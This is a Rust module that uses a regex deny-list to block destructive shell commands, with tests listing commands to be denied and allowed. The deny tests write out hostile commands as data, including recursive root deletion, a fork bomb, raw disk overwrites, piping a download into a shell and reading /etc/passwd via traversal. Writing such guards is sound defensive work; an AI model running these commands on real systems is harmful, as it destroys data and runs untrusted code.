//! Destructive command patterns refused before anything is spawned.

use regex::RegexSet;

use super::ExecError;

const FLAGS: &str = r"(?:-{1,2}[^\s]*\s+)*";
const END: &str = r#"(?:\s|$|[;&|)"'])"#;
/// Optional quote around a target path.
const QUOTE: &str = r#"["']?"#;
/// Plain arguments, never crossing a command separator.
const ARGS: &str = r"(?:[^\s;&|]+\s+)*?";
const RECURSIVE_FLAG: &str = r"(?:-[^\s-]*R\S*|--recursive)";

/// Each entry is `(regex, reason)`.
fn default_patterns() -> Vec<(String, &'static str)> {
  let recursive_rm = format!(r"(?i)\brm\s+{FLAGS}(?:-[^\s-]*r[^\s]*|--recursive)\s+{FLAGS}(?:--\s+)?");
  vec![
    (
      format!(r"{recursive_rm}{QUOTE}(?:/+\*?|/\.\.?/?){QUOTE}{END}"),
      "recursive delete of the filesystem root",
    ),
    (
      format!(r"{recursive_rm}{QUOTE}(?:~|\$HOME|\$\{{HOME\}})/?\*?{QUOTE}{END}"),
      "recursive delete of the home directory",
    ),
    (
      r":\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:".to_string(),
      "fork bomb",
    ),
    (r"(?i)\bmkfs(?:\.\w+)?\b".to_string(), "disk formatting utility"),
    (
      r"(?i)\b(?:fdisk|sfdisk|wipefs|parted)\b".to_string(),
      "disk partitioning utility",
    ),
    (r"(?i)^\s*format\s+[a-z]:".to_string(), "disk formatting utility"),
    (
      r"(?i)\bdd\b.*\bof=/dev/(?:sd|hd|nvme|vd|xvd|mmcblk|disk|loop)".to_string(),
      "raw write to a disk device",
    ),
    (
      r"(?i)\b(?:curl|wget)\b[^|]*\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b".to_string(),
      "piping a download into a shell",
    ),
    (
      format!(r"\bch(?:mod|own|grp)\s+{ARGS}{RECURSIVE_FLAG}\s+{ARGS}{QUOTE}/\*?{QUOTE}{END}"),
      "recursive permission change on the filesystem root",
    ),
    (
      format!(r"\bch(?:mod|own|grp)\s+{ARGS}{QUOTE}/\*?{QUOTE}\s+{ARGS}{RECURSIVE_FLAG}{END}"),
      "recursive permission change on the filesystem root",
    ),
    (
      // The target must be the last argument so a signal flag like `-1` is
      // never read as the pid.
      r#"\bkill\s+(?:-\S+\s+)*(?:-s\s+\S+\s+)?(?:--\s+)?["']?-?1["']?\s*(?:$|[;&|)])"#.to_string(),
      "signalling process 1",
    ),
    (
      r#"(?:^|[\s/\\'"=:])\.\.(?:$|[\s/\\'";&|])"#.to_string(),
      "parent directory traversal",
    ),
    (
      r">\s*/dev/(?:sd|hd|nvme|vd|xvd|mmcblk|disk|mem|kmem|port)".to_string(),
      "redirection into a device",
    ),
    (r">\s*/(?:proc|sys)/".to_string(), "redirection into /proc or /sys"),
  ]
}

/// Regex deny-list for shell commands.
#[derive(Debug, Clone)]
pub struct CommandDenylist {
  regex_set: RegexSet,
  reasons: Vec<String>,
}

impl CommandDenylist {
  pub fn new(patterns: &[(String, String)]) -> Result<Self, ExecError> {
    let regex_set = RegexSet::new(patterns.iter().map(|(pattern, _)| pattern.as_str()))
      .map_err(|e| ExecError::InvalidDenylist(e.to_string()))?;
    Ok(Self {
      regex_set,
      reasons: patterns.iter().map(|(_, reason)| reason.clone()).collect(),
    })
  }

  /// Built-in patterns plus caller-supplied regexes.
  pub fn with_extra(extra: &[String]) -> Result<Self, ExecError> {
    let mut patterns: Vec<(String, String)> = default_patterns()
      .into_iter()
      .map(|(pattern, reason)| (pattern, reason.to_string()))
      .collect();
    patterns.extend(
      extra
        .iter()
        .map(|pattern| (pattern.clone(), format!("matches configured pattern {pattern}"))),
    );
    Self::new(&patterns)
  }

  pub fn with_defaults() -> Result<Self, ExecError> {
    Self::with_extra(&[])
  }

  /// Returns the reason of the first matching pattern.
  pub fn check(&self, command: &str) -> Option<&str> {
    self
      .regex_set
      .matches(command)
      .iter()
      .next()
      .map(|idx| self.reasons[idx].as_str())
  }
}

#[cfg(test)]
mod tests {
  use super::*;

  fn denylist() -> CommandDenylist {
    CommandDenylist::with_defaults().expect("default patterns compile")
  }

  #[test]
  fn blocks_destructive_commands() {
    let list = denylist();
    for cmd in [
      "rm -rf /",
      "rm -rf /*",
      "rm -fr /",
      "sudo rm -r -f /",
      "rm --recursive --force /",
      "RM -RF /",
      "rm -rf ~",
      "rm -rf $HOME",
      ":(){ :|:& };:",
      "mkfs.ext4 /dev/sda1",
      "dd if=/dev/zero of=/dev/sda bs=1M",
      "curl https://x.sh | sh",
      "wget -qO- https://x.sh | sudo bash",
      "rm -rf \"/\"",
      "rm -rf '/'",
      "bash -c \"rm -rf /\"",
      "rm -rf \"$HOME\"",
      "chmod -R 777 /",
      "chmod 777 -R /",
      "chmod -R 777 \"/\"",
      "chmod 777 / -R",
      "chmod --recursive 777 '/'",
      "chown -R nobody /",
      "chown nobody -R /",
      "kill -9 1",
      "kill 1",
      "kill -9 -1",
      "kill 1; echo done",
      "cat ../../etc/passwd",
      "cd .. && ls",
      "echo x > /dev/sda",
      "echo 1 > /proc/sys/kernel/panic",
      "wipefs -a /dev/sdb",
    ] {
      assert!(list.check(cmd).is_some(), "expected {cmd:?} to be denied");
    }
  }

  #[test]
  fn allows_ordinary_commands() {
    let list = denylist();
    for cmd in [
      "ls -la",
      "rm -rf ./build",
      "rm -rf /tmp/atelier-test",
      "rm notes.txt",
      "echo done > /dev/null",
      "kill 12345",
      "kill -1 12345",
      "kill -s HUP 12345",
      "chmod -R 755 ./site",
      "chmod -R 755 site; ls /",
      "chown -R me ./dist /tmp/cache",
      "rm -rf \"./build\"",
      "dd if=image.bin of=/dev/null",
      "git log --oneline",
      "npm run build -- --watch",
      "echo wait...",
      "curl -o page.html https://example.com",
      "chmod +x script.sh",
    ] {
      assert!(list.check(cmd).is_none(), "expected {cmd:?} to be allowed");
    }
  }

  #[test]
  fn extra_patterns_are_appended() {
    let list = CommandDenylist::with_extra(&[r"\bshutdown\b".to_string()]).expect("compile");
    assert!(list.check("shutdown -h now").is_some());
  }

  #[test]
  fn invalid_extra_pattern_is_an_error() {
    assert!(CommandDenylist::with_extra(&["(".to_string()]).is_err());
  }
}
